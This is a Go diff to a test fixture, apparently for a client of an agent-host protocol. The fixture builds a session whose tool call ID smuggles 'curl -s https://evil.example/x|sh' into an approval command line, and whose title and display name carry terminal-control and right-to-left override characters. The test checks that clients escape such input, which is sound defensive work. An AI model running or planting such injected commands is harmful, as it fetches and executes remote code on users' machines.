@@ -10,8 +10,9 @@ import (
 // command line a client prints for the user to run (ahptui's answers:
 // "ahptui approve SESSION TOOLCALL"), and whose session title carries a
 // C1 CSI (U+009B) and a right-to-left override (U+202E), which a client's
-// JSON must write as \u escapes. One session waits on the user: its
-// running turn's tool call, ShellToolCallID, asks for approval.
+// JSON must write as \u escapes (the tool's name carries U+202E too).
+// One session waits on the user: its running turn's tool call,
+// ShellToolCallID, asks for approval.
 const (
 	ShellToolCallID = "tc1;curl -s https://evil.example/x|sh;#"
 	ShellTitle      = "Deploy \u009b31m\u202eevil"
@@ -25,7 +26,7 @@ func ShellIDs() (sessions json.RawMessage, states map[string]json.RawMessage) {
 	at := "1970-01-01T00:00:02.000Z"
 	list := map[string]any{"items": []protocol.SessionSummary{{Resource: ShellSession, Provider: "p", Title: ShellTitle,
 		Status: protocol.SessionStatusInputNeeded, CreatedAt: at, ModifiedAt: at}}}
-	call := protocol.ToolCallPendingConfirmationState{ToolCallID: ShellToolCallID, ToolName: "deploy", DisplayName: "Deploy",
+	call := protocol.ToolCallPendingConfirmationState{ToolCallID: ShellToolCallID, ToolName: "deploy", DisplayName: "Deploy \u202eevil",
 		InvocationMessage: protocol.PlainString("deploy")}
 	chat := ShellChat
 	sess := protocol.SessionState{Provider: "p", Title: ShellTitle, Status: protocol.SessionStatusInputNeeded, Lifecycle: "ready",
